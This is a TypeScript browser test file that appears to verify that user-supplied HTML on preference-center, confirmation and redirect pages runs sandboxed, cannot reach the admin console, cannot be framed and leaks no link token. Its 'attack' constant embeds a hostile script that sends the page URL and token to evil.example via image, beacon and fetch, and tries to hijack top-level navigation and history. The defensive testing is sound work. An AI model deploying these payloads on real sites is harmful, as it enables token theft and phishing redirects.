/**
 * Pages written to attack their visitors, in a browser: page, confirmation and redirect page, with scripts of the workspace allowed and
 * not. None reaches the console of the same server, none can be framed, none changes the address bar, and none reads the token of its link.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Frame, Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { callHeddle } from "../client.ts";
import { demoKey } from "../heddle.ts";
import { centerDeclaration, freshWorkspace, scriptedKey, storedPage, type Workspace } from "../preference-centers.ts";
import { heddleSuite } from "../suite.ts";
import { browserMissing, browserSuite, type Opened } from "./browser.ts";

const kinds = ["page", "confirmation", "redirect"] as const;
type Kind = (typeof kinds)[number];
const cases = kinds.flatMap((kind) => [[kind, "off"], [kind, "on"]] as const);

describe.skipIf(browserMissing)("in Chromium", () => {
  const suite = heddleSuite({ apply: centerDeclaration });
  const browser = browserSuite();

  test.each(cases)("a hostile %s, with scripts %s, reaches nothing of the server", async (kind, scripts) => {
    const { opened: { page, seen }, url } = await openHostile(kind, scripts, attack);
    const address = page.url();
    const content = contentOf(page);
    if (runsScripts(kind, scripts)) {
      await expect.poll(() => resultsOf(seen)).toEqual(Object.fromEntries(attempts.map((name) => [name, "stopped"])));
      expect(decodeURIComponent(String(await content.evaluate("readable().join(' ')")))).not.toContain(tokenOf(url));
    } else {
      // Had one begun, it would have said so before the page was loaded
      expect(await content.evaluate("document.documentElement.dataset.began ?? 'no'")).toBe("no");
    }
    expect([await page.evaluate("window.origin"), await content.evaluate("window.origin")]).toEqual(["null", "null"]);
    expect(seen.foreign).toEqual([]);
    expect(page.url()).toBe(address);
    // What is sent with a token of its own has another one in its address, and no word more
    expect(new URL(address).pathname).toMatch(kind === "page" ? new URL(url).pathname : /^\/preferences\/[\w-]+$/);
    if (runsScripts(kind, scripts)) {
      // It may lead its own frame astray, and gets no further than that
      await content.evaluate(`location.href = "https://evil.example/astray"`).catch(() => undefined);
      await expect.poll(() => seen.console.join("\n")).toContain("Framing 'https://evil.example/'");
      expect([seen.foreign, page.url()]).toEqual([[], address]);
    }
  });

  test.each([["page"], ["confirmation"]] as const)(
    "a script of a %s leads the person on by their own click alone, and tells nothing of the link",
    async (kind) => {
      const { opened: { page, seen }, url } = await openHostile(kind, "on", attack);
      const content = contentOf(page);
      await expect.poll(() => resultsOf(seen)).toMatchObject({ topLocation: "stopped", topForm: "stopped" });
      await content.locator("#lead").click({ noWaitAfter: true });
      await expect.poll(() => seen.foreign.length).toBeGreaterThan(0);
      expect(decodeURIComponent(seen.foreign.join())).toContain("https://evil.example/led?about:srcdoc");
      expect(decodeURIComponent(seen.foreign.join())).not.toContain(tokenOf(url));
    },
  );

  test("what a script can read opens the page for some hours, whoever has it, and is no link that is good for longer", async () => {
    const { opened: { page }, url } = await openHostile("page", "on", attack);
    const base = String(await contentOf(page).evaluate("document.baseURI"));
    expect(new URL(base).pathname).toMatch(/^\/preferences\/[\w-]+$/);
    expect(tokenOf(base)).not.toBe(tokenOf(url));
    const framed = await (await fetch(base)).text();
    // Asked with it, the page has no other
    expect(framed).toContain(`<base href="${tokenOf(base)}">`);
    expect(framed).not.toContain(tokenOf(url));
  });

  test.each(cases)("a link of a %s, with scripts %s, tells nobody where it stood", async (kind, scripts) => {
    const { opened: { page, seen }, url } = await openHostile(kind, scripts, `<a id="away" href="https://evil.example/away">away</a>`);
    const asked = page.waitForRequest((request) => request.url().startsWith("https://evil.example/"));
    await contentOf(page).locator("#away").click({ noWaitAfter: true });
    const headers = await (await asked).allHeaders();
    expect(JSON.stringify(headers)).not.toContain(tokenOf(url));
    expect([headers["referer"], seen.foreign]).toEqual([undefined, ["https://evil.example/away"]]);
  });

  test.each([["off"], ["on"]] as const)(
    "a redirect page, with scripts %s, leads on by itself and says nothing of the link",
    async (scripts) => {
      const { opened: { page, seen } } = await openHostile(
        "redirect",
        scripts,
        `<meta http-equiv="refresh" content="0;url=https://shop.example/hello">`,
      );
      await expect.poll(() => seen.foreign).toEqual(["https://shop.example/hello"]);
      expect(page.url()).not.toContain("console");
    },
  );

  test("no page of a link can be shown within another, that of a wrong link neither", async () => {
    const workspace = freshWorkspace(suite);
    const url = await workspace.url(await workspace.create(), await workspace.person());
    const framer = createServer((_, response) => response.setHeader("content-type", "text/html").end("<!doctype html><title>x</title>"));
    await new Promise<void>((listening) => framer.listen(0, "127.0.0.1", listening));
    try {
      const { page } = await browser.open(`http://127.0.0.1:${(framer.address() as AddressInfo).port}/`);
      await page.context().unrouteAll();
      for (const framed of [url, `${url}x`]) {
        await page.setContent(`<iframe src="${framed}"></iframe>`, { waitUntil: "load" });
        await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
      }
    } finally {
      framer.closeAllConnections();
      framer.close();
    }
  });

  test("what is written into link tags and origins gets no word of its own into the policy", async () => {
    const workspace = freshWorkspace(suite);
    const tag = { rel: "icon", type: "image/png", sizes: "16x16", href: "https://a;script-src/i.png" };
    const body = { name: "words", preference_center_page_html: "", confirmation_page_html: "" };
    const answer = await workspace.call("POST", "/preference_center/v1", { ...body, options: { "link-tags": [tag] } });
    expect([answer.status, answer.text]).toEqual([400, expect.stringContaining("'href' of a link tag")]);
  });

  test("the page of a link that is none runs in a sandbox too, and its address goes nowhere", async () => {
    const { page } = await browser.open(`${suite.heddle.url}/preferences/abc`);
    expect(await page.evaluate("window.origin")).toBe("null");
    const answer = await fetch(`${suite.heddle.url}/preferences/abc`);
    expect(answer.headers.get("referrer-policy")).toBe("no-referrer");
  });

  async function openHostile(kind: Kind, scripts: "on" | "off", html: string): Promise<{ opened: Opened; url: string }> {
    const workspace = freshWorkspace(suite, scripts === "on" ? scriptedKey : undefined);
    const url = await workspace.url(await createHostile(workspace, kind, html), await workspace.person());
    // The console is there, and would be worth reaching
    const overview = await callHeddle(suite.heddle.url, { method: "GET", path: "/console/overview", key: demoKey });
    expect(overview.status).toBe(200);
    const opened = await browser.open(url);
    if (kind !== "page") {
      await contentOf(opened.page).getByRole("button", { name: "Save" }).click({ noWaitAfter: true });
      await opened.page.waitForURL(/\?save$|shop\.example|chrome-error/).catch(() => undefined);
    }
    return { opened, url };
  }
});

/** A redirect page is written by `redirect_page_html`, which takes what the other two do not. */
async function createHostile(workspace: Workspace, kind: Kind, html: string): Promise<string> {
  return await workspace.create({
    preference_center_page_html: kind === "page" ? storedPage.replace("<h1>", `${html}<h1>`) : storedPage,
    confirmation_page_html: kind === "confirmation" ? `<h1>Done</h1>${html}` : "",
    redirect_page_html: kind === "redirect" ? `<meta http-equiv="refresh" content="300;url=https://shop.example/">${html}` : "",
  });
}

/** Where the stored HTML is: in a frame where its scripts run. */
function contentOf(page: Page): Frame {
  const [top, framed] = page.frames();
  return (framed?.url() === "about:srcdoc" ? framed : top) as Frame;
}

/** A redirect page leads on by itself and runs nothing. */
function runsScripts(kind: Kind, scripts: "on" | "off"): boolean {
  return scripts === "on" && kind !== "redirect";
}

/** As the page wrote them: a question of the browser's tools counts as the person's own click. */
function resultsOf({ console }: Opened["seen"]): unknown {
  const line = console.find((text) => text.startsWith(resultsMark)) ?? `${resultsMark}{}`;
  return JSON.parse(line.slice(resultsMark.length));
}

const resultsMark = "results ";

function tokenOf(url: string): string {
  return new URL(url).pathname.slice("/preferences/".length);
}

const attempts = [
  "console",
  "overview",
  "beacon",
  "frame",
  "window",
  "cookie",
  "storage",
  "token",
  "parent",
  "pushState",
  "replaceState",
  "otherHost",
  "hash",
  "topLocation",
  "topOpen",
  "topForm",
  "topLink",
  "back",
];

/** Each way in says whether it was open. What is sent is seen by the browser's own list of requests. */
const attack = `<iframe id="frame" src="/console"></iframe>
<img src="x" onerror="document.documentElement.dataset.began = 'yes'">
<svg onload="document.documentElement.dataset.began = 'yes'"></svg>
<button id="lead" type="button" onclick="top.location.href = 'https://evil.example/led?' + encodeURIComponent(readable().join(' '))">lead</button>
<script>
document.documentElement.dataset.began = "yes";
const violated = [];
addEventListener("securitypolicyviolation", (event) => violated.push(event.documentURI, event.sourceFile));
function readable() {
  const timed = performance.getEntries().map(({ name }) => name);
  return [location.href, document.URL, document.baseURI, document.referrer, new Request("x").url, new Error("x").stack,
    document.documentElement.outerHTML, window.name, ...timed, ...violated];
}
(async () => {
  const results = {};
  async function attempt(name, work) {
    try { results[name] = (await work()) ? "reached" : "stopped"; } catch { results[name] = "stopped"; }
  }
  await attempt("console", async () => (await fetch("/console")).ok);
  await attempt("overview", async () => (await fetch("/console/overview", { headers: { authorization: "Bearer ${demoKey}" } })).ok);
  await attempt("beacon", async () => {
    const stolen = encodeURIComponent(location.href);
    new Image().src = "https://evil.example/image?" + stolen;
    navigator.sendBeacon("https://evil.example/beacon", stolen);
    await fetch("https://evil.example/fetch?" + stolen, { mode: "no-cors" });
    return true;
  });
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = "/console";
    document.body.append(frame);
    await new Promise((loaded) => { frame.onload = loaded; setTimeout(loaded, 1000); });
    return frame.contentDocument.querySelector("#key") !== null;
  });
  await attempt("window", async () => {
    const other = window.open("/console");
    await new Promise((loaded) => setTimeout(loaded, 500));
    return other.document.body !== null;
  });
  await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie !== ""; });
  await attempt("storage", () => { localStorage.setItem("a", "b"); return true; });
  await attempt("token", () => location.pathname.length > "/preferences/".length + 20);
  await attempt("parent", () => (parent === window ? true : parent.location.href !== ""));
  await attempt("pushState", () => { history.pushState(null, "", "/console"); return location.pathname === "/console"; });
  await attempt("replaceState", () => { history.replaceState(null, "", "/docs"); return location.pathname === "/docs"; });
  await attempt("otherHost", () => { history.pushState(null, "", "https://bank.example/"); return true; });
  await attempt("hash", () => { top.location.hash = "#owned"; return top === window; });
  async function stays(work) {
    let gone = false;
    addEventListener("pagehide", () => { gone = true; }, { once: true });
    work();
    await new Promise((settled) => setTimeout(settled, 300));
    return gone || top === window;
  }
  await attempt("topLocation", () => stays(() => { top.location.href = "https://evil.example/top"; }));
  await attempt("topOpen", () => stays(() => window.open("https://evil.example/open", "_top")));
  await attempt("topForm", () => stays(() => {
    const form = document.createElement("form");
    [form.method, form.target, form.action] = ["post", "_top", new URL("?save", document.baseURI).href];
    document.body.append(form);
    form.submit();
  }));
  await attempt("topLink", () => stays(() => {
    const link = document.createElement("a");
    [link.href, link.target] = ["https://evil.example/link", "_top"];
    document.body.append(link);
    link.click();
  }));
  await attempt("back", () => stays(() => { top.history.back(); }));
  console.log("${resultsMark}" + JSON.stringify(results));
})();
</script>`;
